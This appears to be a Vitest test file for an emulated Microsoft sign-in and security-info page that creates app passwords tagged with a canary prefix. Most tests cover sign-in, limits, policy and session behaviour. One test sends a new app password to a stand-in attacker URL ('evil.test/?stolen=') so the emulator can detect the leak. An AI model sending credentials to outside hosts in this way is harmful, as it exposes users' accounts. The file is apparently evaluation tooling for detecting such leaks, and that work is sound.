// @vitest-environment node
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { startEmulator, type Emulator } from './index.ts';
import { pageWords } from './security-info/page-words.ts';
import { stringsOf, TEST_IDS } from './security-info/strings.ts';
import { TestBrowser, type Answer } from './testing/test-browser.ts';

const PAGE = 'https://mysignins.microsoft.com';
let emulator: Emulator;
let browser: TestBrowser;

beforeAll(async () => {
  emulator = await startEmulator();
});
afterAll(async () => {
  await emulator.stop();
});
beforeEach(() => {
  emulator.reset();
  browser = new TestBrowser(emulator);
});

async function visit(upn: string): Promise<Answer> {
  emulator.state.settings.autoSignIn = upn;
  return await browser.open(`${PAGE}/security-info`);
}

async function backend(
  method: string,
  path: string,
  body?: unknown,
): Promise<{ status: number; body: unknown }> {
  const answer = await browser.send(`${PAGE}/emulator-backend/${path}`, {
    method,
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  const parsed: unknown = JSON.parse(answer.body);
  return { status: answer.status, body: parsed };
}

async function create(name: string): Promise<unknown> {
  return (await backend('POST', 'app-passwords', { name })).body;
}

test('without a session the page asks to sign in and comes back', async () => {
  const page = await browser.open(`${PAGE}/security-info?lng=de`);
  expect(page.body).toContain('name="password"');
  const asked = await browser.submit(page, { account: 'anna@contoso.example', password: 'demo-anna' });
  const stay = await browser.submit(asked, { code: '123456' });
  const back = await browser.submit(stay, { stay: 'no' });
  expect(back.url).toBe(`${PAGE}/security-info?lng=de`);
  expect(back.body).toContain('Sicherheitsinformationen');
});

test('a value is sixteen letters with the canary, and is never shown again', async () => {
  await visit('anna@contoso.example');
  const made = await create('Scanner, 2nd floor');
  expect(made).toMatchObject({ value: expect.stringMatching(/^cnry[a-z]{12}$/) });
  const list = await backend('GET', 'methods');
  expect(JSON.stringify(list.body)).toContain('Scanner, 2nd floor');
  expect(JSON.stringify(list.body)).not.toContain('cnry');
});

test('names that are short, taken or refused make nothing', async () => {
  await visit('anna@contoso.example');
  expect(await create('Seven77')).toEqual({ problem: 'too-short' });
  await create('Scanner one');
  expect(await create('Scanner one')).toEqual({ problem: 'taken' });
  emulator.state.settings.refuseName = true;
  expect(await create('Scanner two')).toEqual({ problem: 'refused' });
  expect(emulator.state.appPasswords.filter((one) => one.name.startsWith('Scanner o'))).toHaveLength(1);
});

test('the forty-first is refused', async () => {
  await visit('full@contoso.example');
  expect((await backend('POST', 'begin', {})).body).toEqual({ problem: 'limit' });
  expect(await create('One too many')).toEqual({ problem: 'limit' });
});

test('nothing is offered without per-user enforcement or with the admin switch off', async () => {
  await visit('policy@contoso.example');
  expect((await backend('GET', 'methods')).body).toMatchObject({ offered: false });
  expect((await backend('POST', 'begin', {})).status).toBe(403);
  browser = new TestBrowser(emulator);
  emulator.state.settings.offerAppPassword = false;
  await visit('twins@contoso.example');
  const list = (await backend('GET', 'methods')).body;
  expect(list).toMatchObject({ offered: false });
  expect(list).toHaveProperty('appPasswords.length', 3);
});

test('the session ends after fifteen minutes and a new sign-in is asked for', async () => {
  await visit('anna@contoso.example');
  emulator.state.settings.clockOffsetMs = 16 * 60_000;
  expect((await backend('GET', 'methods')).status).toBe(401);
  const page = await browser.open(`${PAGE}/security-info`);
  expect(page.body).toContain('name="password"');
});

test('a step-up sends the person to sign in once', async () => {
  await visit('anna@contoso.example');
  emulator.state.settings.stepUpAfterAdd = true;
  const begun = await backend('POST', 'begin', {});
  const goTo = /"(https:[^"]+)"/.exec(JSON.stringify(begun.body))?.[1] ?? '';
  const code = await browser.open(goTo);
  expect(code.body).toContain('name="code"');
  const back = await browser.submit(code, { code: '123456' });
  expect(back.url).toBe(`${PAGE}/security-info`);
  expect((await backend('POST', 'begin', {})).body).toEqual({});
});

test('a lost answer can leave an app password behind', async () => {
  await visit('anna@contoso.example');
  emulator.state.settings.faults = [
    {
      host: 'mysignins.microsoft.com',
      path: '/emulator-backend/app-passwords',
      kind: 'close',
      times: 1,
      after: true,
    },
  ];
  await expect(create('Lost device')).rejects.toThrow();
  expect(emulator.state.appPasswords.at(-1)?.name).toBe('Lost device');
});

test('registration turns an enabled person into an enforced one with an app password', async () => {
  const page = await browser.open(`${PAGE}/security-info`);
  const more = await browser.submit(page, { account: 'newcomer@contoso.example', password: 'demo-newcomer' });
  expect(more.body).toContain('Set it up now');
  expect((await browser.open(`${PAGE}/register`)).url).toBe(`${PAGE}/register`);
  const verified = await backend('POST', 'verify', { type: 'authenticator', code: '123456' });
  expect(verified.body).toMatchObject({ offered: true });
  expect((await backend('POST', 'first-app-password', {})).body).toHaveProperty('value');
  expect((await browser.open(`${PAGE}/security-info`)).url).toBe(`${PAGE}/security-info`);
  expect((await backend('GET', 'methods')).body).toMatchObject({ offered: true });
});

test('renaming leaves no label and no test id as it was', () => {
  const words = pageWords({ ...emulator.state.settings, rename: true });
  const plain = stringsOf('en');
  const kept = Object.entries(words.strings).filter(([key, text]) =>
    Object.entries(plain).some(([k, t]) => k === key && t === text),
  );
  expect(kept).toEqual([]);
  expect(words.testIds.next).not.toBe(TEST_IDS.next);
  expect(pageWords({ ...emulator.state.settings, labels: { done: 'Finished' } }).strings.done).toBe(
    'Finished',
  );
});

test('requests that carry a value are marked', async () => {
  await visit('anna@contoso.example');
  await create('Scanner, 2nd floor');
  const made = emulator.state.appPasswords.at(-1);
  await browser.send(`https://evil.test/?stolen=${made?.value ?? ''}`);
  expect(emulator.state.requests.at(-1)?.carries).toEqual([made?.id]);
});

test('the control host shows the state and checks settings', async () => {
  const state = await browser.send('https://emulator.test/state');
  expect(state.body).toContain('anna@contoso.example');
  expect(state.body).not.toContain('demo-anna');
  const post = async (body: unknown): Promise<number> =>
    (await browser.send('https://emulator.test/set', { method: 'POST', body: JSON.stringify(body) })).status;
  expect(await post({ variant: '2023' })).toBe(200);
  expect(await post({ variant: '1999' })).toBe(400);
  expect(emulator.state.settings.variant).toBe('2023');
  const foreign = { method: 'POST', headers: { origin: 'https://evil.test' }, body: '{}' };
  expect((await browser.send('https://emulator.test/reset', foreign)).status).toBe(403);
});
